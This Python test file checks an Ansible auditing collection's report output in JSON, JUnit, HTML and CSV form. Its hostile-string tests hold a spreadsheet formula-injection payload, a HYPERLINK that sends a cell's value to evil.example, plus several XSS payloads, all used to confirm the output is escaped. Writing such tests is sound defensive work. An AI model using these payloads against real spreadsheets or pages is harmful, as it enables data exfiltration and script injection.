"""The auditors' report (plugins/plugin_utils/report.py): JSON Schema, JUnit, HTML, CSV."""

from __future__ import annotations

import csv
import io
import json
import pathlib
from html.parser import HTMLParser

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from junitparser import Error, Failure, JUnitXml, Skipped

from ansible_collections.pii_guard.safeguards.plugins.module_utils.common import findings as F
from ansible_collections.pii_guard.safeguards.plugins.plugin_utils import catalog
from ansible_collections.pii_guard.safeguards.plugins.plugin_utils import report as R
from ansible_collections.pii_guard.safeguards.plugins.plugin_utils import report_html as HTML

ROOT = pathlib.Path(__file__).resolve().parents[3]
SCHEMA = json.loads((ROOT / "meta" / "report.schema.json").read_text(encoding="utf-8"))
CAT = catalog.load()
RUN = {
    "started_at": "2026-11-28T05:00:00Z",
    "finished_at": "2026-11-28T05:01:30Z",
    "duration_seconds": 90.0,
    "inventory_sources": ["/repo/inventories/lab"],
    "limit": None,
    "tags": ["all"],
    "skip_tags": [],
    "ansible_version": "2.19.14",
    "collection_version": "pii_guard.safeguards 0.1.0",
    "check_mode": True,
}


def fabricated():
    """Three hosts with every status, awkward evidence, plus organisation-level findings."""
    hosts = {
        "web-01": [
            F.finding(
                "6-17.usbguard_rules",
                "fail",
                observed="rules digest 1f2e",
                expected="digest 9a9a",
                evidence={"rules": ['allow id *:* serial "AGENCY0001"', "<script>alert(1)</script> & co"]},
            ),
            F.finding("6-6.admin_group_members", "pass", observed=["labop"], expected=["labop"]),
            F.finding("6-5.threshold_review", "error", observed="reviewed_on missing", evidence={"path": "/etc/x"}),
        ],
        "db-01": [
            F.finding("6-6.admin_group_members", "fail", observed=["labop", "mallory"], expected=["labop"]),
            F.finding("6-17.win_usbstor_disabled", "not_applicable", observed="not windows"),
            F.finding("7-1.console_login_audit", "fixed", evidence={"file": "/etc/audit/rules.d/x.rules"}),
            F.finding("8-5.annual_inspection", "fail", observed="last inspection 2024-01-10 (688 days)"),
        ],
        "ws-日本": [F.finding("6-17.usbguard_service", "pass", evidence={"unit": "usbguard.service 稼働中"})],
    }
    org = [
        F.finding("8-4.contract_clauses", "pass", evidence={"contractor": "株式会社サンプル"}),
        F.finding("8-6.subcontractor_measures", "fail", observed="サブ社 approved 2026-05-02 after start 2026-05-01"),
    ]
    return hosts, org


def build(**kw):
    hosts, org = fabricated()
    return R.build(hosts, CAT, RUN, organisation=org, **kw)


def all_rows(doc):
    return [(h["name"], f) for h in doc["hosts"] for f in h["findings"]] + [
        (R.ORGANISATION, f) for f in doc["organisation"]["findings"]
    ]


def test_json_validates_against_the_schema_and_counts_add_up() -> None:
    doc = build()
    text = R.to_json(doc)
    parsed = json.loads(text)
    jsonschema.validate(parsed, SCHEMA, format_checker=jsonschema.FormatChecker())
    assert parsed["summary"]["findings"] == 10
    assert parsed["summary"]["result"] == "fail"
    by_clause = {c["clause"]: c for c in parsed["summary"]["clauses"]}
    assert list(by_clause) == ["6-5", "6-6", "6-17", "7-1", "8-4", "8-5", "8-6"]
    assert by_clause["6-6"]["counts"]["fail"] == 1 and by_clause["6-6"]["counts"]["pass"] == 1
    assert by_clause["8-4"]["result"] == "pass" and by_clause["8-6"]["result"] == "fail"
    # Findings are labelled from the catalog, in Japanese and English.
    f = parsed["hosts"][0]["findings"][0]
    assert f["title_ja"] and f["title_en"] and f["severity"] in ("high", "medium", "low")


def test_schema_refuses_a_report_that_lost_its_run_metadata() -> None:
    doc = json.loads(R.to_json(build()))
    del doc["run"]["collection_version"]
    with pytest.raises(jsonschema.ValidationError, match="collection_version"):
        jsonschema.validate(doc, SCHEMA)
    doc = json.loads(R.to_json(build()))
    doc["hosts"][0]["findings"][0]["status"] = "passed"
    with pytest.raises(jsonschema.ValidationError, match="passed"):
        jsonschema.validate(doc, SCHEMA)


def test_all_pass_report_passes_and_incomplete_host_fails_it() -> None:
    ok = R.build({"a": [F.finding("6-6.uid0_accounts", "pass")]}, CAT, RUN)
    assert not R.failed(ok)
    inc = R.build({"a": [F.finding("6-6.uid0_accounts", "pass")], "b": []}, CAT, RUN, host_state={"b": "incomplete"})
    assert R.failed(inc) and inc["summary"]["incomplete_hosts"] == ["b"]
    assert "audit incomplete on: b" in R.summary_lines(inc)


def test_malformed_finding_is_refused_naming_it() -> None:
    with pytest.raises(F.FindingError, match="lacks"):
        R.build({"a": [{"id": "6-6.uid0_accounts", "status": "pass"}]}, CAT, RUN)


def test_junit_parses_one_suite_per_clause_one_case_per_host_and_control() -> None:
    doc = build()
    xml = JUnitXml.fromstring(R.to_junit(doc).encode("utf-8"))
    suites = {s.name.split()[0]: s for s in xml}
    assert sorted(suites, key=catalog.clause_sort_key) == ["6-5", "6-6", "6-17", "7-1", "8-4", "8-5", "8-6"]
    expected = {(h, f["id"]): f["status"] for h, f in all_rows(doc)}
    seen = {}
    for clause, suite in suites.items():
        n = 0
        for case in suite:
            n += 1
            cid = case.name.split()[0]
            assert cid.startswith(clause + ".")
            kinds = {type(r) for r in case.result}
            status = (
                "fail"
                if Failure in kinds
                else "error"
                if Error in kinds
                else "not_applicable"
                if Skipped in kinds
                else "ok"
            )
            seen[(case.classname, cid)] = status
        assert suite.tests == n
    assert set(seen) == set(expected)
    for key, status in expected.items():
        assert seen[key] == (status if status in ("fail", "error", "not_applicable") else "ok"), key
    assert xml.failures == 4 and xml.errors == 1 and xml.skipped == 1 and xml.tests == 10


class _Findings(HTMLParser):
    """Collects (host section, finding id, status) and every text node; records external references."""

    def __init__(self) -> None:
        super().__init__()
        self.section = None
        self.rows: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.external: list[str] = []
        self.svg = 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "section":
            self.section = a.get("data-host") or a.get("id")
        if tag == "tr" and a.get("class") == "finding":
            self.rows.append((self.section, a["data-id"], a["data-status"]))
        if tag == "svg":
            self.svg += 1
        for k in ("src", "href"):
            if a.get(k) and not a[k].startswith("#"):
                self.external.append(a[k])
        if tag in ("link", "script", "img", "iframe"):
            self.external.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_self_contained_bilingual_and_holds_every_finding_with_its_evidence() -> None:
    doc = build()
    html = HTML.render(doc)
    p = _Findings()
    p.feed(html)
    p.close()
    assert p.external == []
    assert p.svg == 1 and html.count('class="bar-') >= 7
    text = "".join(p.text)
    expected = {(h if h != R.ORGANISATION else "organisation", f["id"], f["status"]) for h, f in all_rows(doc)}
    assert set(p.rows) == expected and len(p.rows) == len(expected)
    for _, f in all_rows(doc):
        for part in ("observed", "expected", "evidence"):
            v = f[part]
            for s in v if isinstance(v, list) else (v.values() if isinstance(v, dict) else [v]):
                for item in s if isinstance(s, list) else [s]:
                    if item:
                        # Strings inside structured evidence are shown JSON-quoted.
                        shown = str(item) if isinstance(v, str) else json.dumps(item, ensure_ascii=False)[1:-1]
                        assert shown in text, (f["id"], item)
    # Script in evidence stays text, never markup.
    assert "<script>" not in html and "&lt;script&gt;" in html
    for ja, en in (("監査報告", "audit report"), ("条項ごとの結果", "Result per clause"), ("不適合", "fail")):
        assert ja in text and en in text
    assert "@media print" in html


def test_csv_has_one_row_per_finding() -> None:
    doc = build()
    rows = list(csv.DictReader(io.StringIO(R.to_csv(doc))))
    assert [(r["host"], r["id"], r["status"]) for r in rows] == [(h, f["id"], f["status"]) for h, f in all_rows(doc)]
    usb = next(r for r in rows if r["host"] == "web-01" and r["id"] == "6-17.usbguard_rules")
    assert usb["title_ja"] and json.loads(usb["evidence"])["rules"][0] == 'allow id *:* serial "AGENCY0001"'
    assert rows[-1]["host"] == R.ORGANISATION and rows[-1]["id"] == "8-6.subcontractor_measures"


def test_summary_lines_are_a_table_per_clause() -> None:
    lines = R.summary_lines(build())
    assert lines[0].split()[:2] == ["clause", "title"]
    clauses = [ln.split()[0] for ln in lines[2:-2]]
    assert clauses == ["6-5", "6-6", "6-17", "7-1", "8-4", "8-5", "8-6"]
    assert lines[-1].startswith("all") and lines[-1].endswith("FAIL")
    # every clause title whole (the longest, 6-17, was cut mid-word at 44 columns) and aligned
    assert "Connection of devices and media with a recording function" in lines[4]
    col = lines[0].index("result")
    for ln in lines[2:-2] + lines[-1:]:
        assert ln[col - 2 : col] == "  " and ln[col:] in ("PASS", "FAIL", "ERROR"), ln


def test_summary_titles_past_the_limit_end_at_a_word() -> None:
    doc = build()
    doc["summary"]["clauses"][0]["title_en"] = "word " * 20
    line = R.summary_lines(doc)[2]
    assert line[7 : 7 + R.SUMMARY_TITLE_MAX].rstrip().endswith("word...")
    assert len(R.summary_lines(doc)[0]) == 7 + R.SUMMARY_TITLE_MAX + 38


# Evidence comes from hosts: arbitrary text (control characters, markup, any script) must
# still give a parseable JUnit file and HTML that shows the text as text.
@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40), st.text(max_size=40))
def test_any_evidence_text_survives_junit_and_html(observed: str, evidence: str) -> None:
    doc = R.build(
        {"h": [F.finding("6-6.uid0_accounts", "fail", observed=observed, evidence={"x": evidence})]}, CAT, RUN
    )
    xml = JUnitXml.fromstring(R.to_junit(doc).encode("utf-8"))
    (suite,) = list(xml)
    (case,) = list(suite)
    assert isinstance(case.result[0], Failure)
    p = _Findings()
    p.feed(HTML.render(doc))
    p.close()
    assert p.rows == [("h", "6-6.uid0_accounts", "fail")]
    visible = R.xml_safe(observed).strip()
    if visible:
        assert visible in "".join(p.text)


def test_role_errors_and_unreachable_hosts_are_reported_everywhere() -> None:
    hosts = {"ok": [F.finding("6-6.uid0_accounts", "pass")], "broken": [], "gone": []}
    errs = {"broken": [{"role": "admin_privileges", "task": "Read sudoers", "msg": "visudo <missing>"}]}
    doc = R.build(hosts, CAT, RUN, host_state={"gone": "unreachable"}, host_errors=errs)
    jsonschema.validate(json.loads(R.to_json(doc)), SCHEMA)
    states = {h["name"]: h["state"] for h in doc["hosts"]}
    assert states == {"broken": "incomplete", "gone": "unreachable", "ok": "complete"}
    assert R.failed(doc) and doc["summary"]["incomplete_hosts"] == ["broken", "gone"]
    xml = JUnitXml.fromstring(R.to_junit(doc).encode("utf-8"))
    run_suite = next(s for s in xml if s.name.startswith("audit run"))
    cases = {c.classname: c for c in run_suite}
    assert set(cases) == {"broken", "gone"} and isinstance(cases["broken"].result[0], Error)
    assert "admin_privileges: visudo <missing>" in cases["broken"].result[0].message
    html = HTML.render(doc)
    assert html.count('class="audit-error"') == 1 and "visudo &lt;missing&gt;" in html
    with pytest.raises(F.FindingError, match="audit state 'lost'"):
        R.build(hosts, CAT, RUN, host_state={"gone": "lost"})


# ---------------------------------------------------------------- hostile strings (issue 16, point 5)
# Spreadsheets run a cell starting with these as a formula (or DDE); full-width forms too.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\u3000=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("lead", FORMULA_STARTS)
def test_csv_cells_that_look_like_formulas_are_prefixed_and_read_back_as_text(lead: str) -> None:
    name = lead + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    hosts = {
        lead + "host": [
            F.finding(
                "8-5.annual_inspection",
                "fail",
                observed=name,
                expected=lead + "1+1",
                evidence={"contractor": name},
            )
        ]
    }
    doc = R.build(hosts, CAT, RUN, organisation=[F.finding("8-4.contract_clauses", "fail", observed=name)])
    rows = list(csv.reader(io.StringIO(R.to_csv(doc), newline="")))
    assert rows[0] == list(R.CSV_FIELDS)
    host_row, org_row = rows[1], rows[2]
    for row in (host_row, org_row):
        for cell in row:
            # No cell of the file starts a formula: the apostrophe is the first character.
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"), row
            assert cell.lstrip(" \u3000")[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"), row
    assert host_row[0] == "'" + lead + "host"
    assert host_row[R.CSV_FIELDS.index("observed")] == "'" + name
    assert host_row[R.CSV_FIELDS.index("expected")] == "'" + lead + "1+1"
    assert org_row[R.CSV_FIELDS.index("observed")] == "'" + name
    # Structured evidence is JSON: starts with "{" and keeps the name whole inside.
    assert json.loads(host_row[R.CSV_FIELDS.index("evidence")])["contractor"] == name


def test_csv_leaves_ordinary_cells_alone() -> None:
    for text in ("web-01", "rules digest 1f2e", "株式会社サンプル", "a=b", "1-2", "", "'quoted"):
        assert R.csv_cell(text) == text


HOSTILE = [
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "' onmouseover='alert(3)' x='",
    '" onmouseover="alert(4)" x="',
    "</pre></td></tr></table><img src=x onerror=alert(5)>",
    "<!-- --><svg onload=alert(6)>",
    "&lt;already&gt; &amp;",
]


class _Strict(HTMLParser):
    """Every element and attribute of the page, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def _every_field(bad: str) -> dict:
    run = dict(RUN, limit=bad, tags=[bad], skip_tags=[bad], inventory_sources=[bad], controller=bad)
    hosts = {
        bad: [F.finding("6-6.uid0_accounts", "fail", observed=bad, expected=bad, evidence={"k": bad, bad: [bad]})],
        "ok": [],
    }
    errs = {"ok": [{"role": bad, "task": bad, "msg": bad}]}
    org = [F.finding("8-4.contract_clauses", "fail", observed=bad, evidence={"contractor": bad})]
    return R.build(hosts, CAT, run, organisation=org, host_errors=errs)


def _parse(html: str) -> _Strict:
    p = _Strict()
    p.feed(html)
    p.close()
    return p


@pytest.mark.parametrize("bad", HOSTILE)
def test_html_shows_hostile_strings_in_every_field_as_text(bad: str) -> None:
    p = _parse(HTML.render(_every_field(bad)))
    q = _parse(HTML.render(_every_field("benign")))
    # No element or event attribute came from the data: the page has the same kinds of elements
    # and attribute names as a report without hostile strings.
    assert p.tags == q.tags and "script" not in p.tags and "img" not in p.tags
    assert {k for k, _ in p.attrs} <= {k for k, _ in q.attrs}
    assert not any(k.startswith("on") for k, _ in p.attrs)
    # Attribute values that carry the host name hold it whole (the quote did not end them).
    assert ("data-host", bad) in p.attrs and ("href", "#host-" + bad) in p.attrs
    text = "".join(p.text)
    # Every field shows the string as text: host, observed, expected, evidence, errors, run metadata.
    assert text.count(bad) >= 8, text.count(bad)
